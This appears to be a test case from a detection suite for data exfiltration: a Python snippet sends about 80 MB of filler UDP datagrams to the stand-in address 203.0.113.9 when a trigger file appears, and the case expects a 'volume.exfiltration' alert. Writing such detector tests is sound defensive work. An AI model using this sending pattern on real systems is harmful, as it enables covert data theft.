# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='80 MB go out in datagrams, by the program of the application'
case_class=A
case_prepare() {
	run app pg-many python3 -u -c '
import os, socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
	time.sleep(0.2); s.sendto(b"x", ("203.0.113.9", 8125))
	if os.path.exists("/tmp/go"):
		os.unlink("/tmp/go")
		for i in range(60000): s.sendto(b"y" * 1400, ("203.0.113.9", 8125))'
}
case_benign() { sleep 1; }
case_attack() {
	in_ app python3 -c 'open("/tmp/go", "w")'
	sleep 3
}
case_expect='volume.exfiltration A15udp-app /usr/bin/python3* ext:203.0.113.9'
